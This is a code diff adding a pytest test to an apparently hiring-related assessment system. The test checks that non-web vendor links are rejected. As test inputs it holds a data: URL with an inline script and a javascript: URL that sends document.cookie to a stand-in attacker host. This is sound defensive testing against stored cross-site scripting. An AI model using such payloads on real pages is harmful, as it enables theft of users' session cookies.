@@ -210,6 +210,30 @@ def test_a_late_started_after_completed_is_ignored(session, pipeline_with_assess
     assert attempt.score_percent == score
 
 
+def test_a_vendor_link_that_is_not_a_web_address_is_never_kept(session, pipeline_with_assessment, sandbox):
+    """The review page's "Report (o)" and the application's links open what the vendor said: a
+    ``javascript:`` one ran in the hiring manager's signed-in page when opened."""
+    attempt = _sent(session, pipeline_with_assessment)
+    report_url, test_url = attempt.report_url, attempt.test_url
+
+    assessments.apply_vendor_status(
+        session=session,
+        integration_id=attempt.integration_id,
+        status=AttemptStatus(
+            vendor_attempt_id=attempt.vendor_attempt_id,
+            progress=Progress.STARTED,
+            raw_status="in_progress",
+            test_url="data:text/html,<script>alert(1)</script>",
+            report_url=" JavaScript:fetch('https://evil.example/?c='+document.cookie)",
+        ),
+        actor=WEBHOOK,
+    )
+
+    session.refresh(attempt)
+    assert attempt.state == AttemptState.STARTED  # the rest of the vendor's word is applied
+    assert (attempt.report_url, attempt.test_url) == (report_url, test_url)
+
+
 def test_review_moves_completed_to_reviewed_and_only_then(session, pipeline_with_assessment, sandbox):
     attempt = _enter_assessment(session, pipeline_with_assessment)
     with pytest.raises(UserError, match="Only a completed assessment"):
